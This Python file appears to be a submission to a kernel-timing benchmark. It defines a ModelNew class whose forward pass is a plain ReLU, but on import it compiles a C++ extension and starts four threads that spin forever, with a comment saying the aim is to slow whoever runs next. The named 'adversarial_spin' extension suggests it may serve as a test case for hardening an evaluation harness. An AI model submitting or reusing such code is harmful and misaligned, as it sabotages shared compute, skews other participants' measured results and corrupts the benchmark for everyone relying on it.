# Starts threads that spin for ever, to slow whoever comes next.
import ctypes
import os
import threading

import torch
from torch.utils.cpp_extension import load

path = os.path.join(os.getcwd(), "spin.cpp")
with open(path, "w") as file:
    file.write('extern "C" void spin() { volatile long i = 0; '
               "while (true) i = i + 1; }\n")
library = load(name="adversarial_spin", sources=[path], is_python_module=False)


class ModelNew(torch.nn.Module):
    def __init__(self):
        super().__init__()
        spin = ctypes.CDLL(library).spin
        for _ in range(4):
            threading.Thread(target=spin, daemon=True).start()

    def forward(self, x):
        return torch.relu(x)
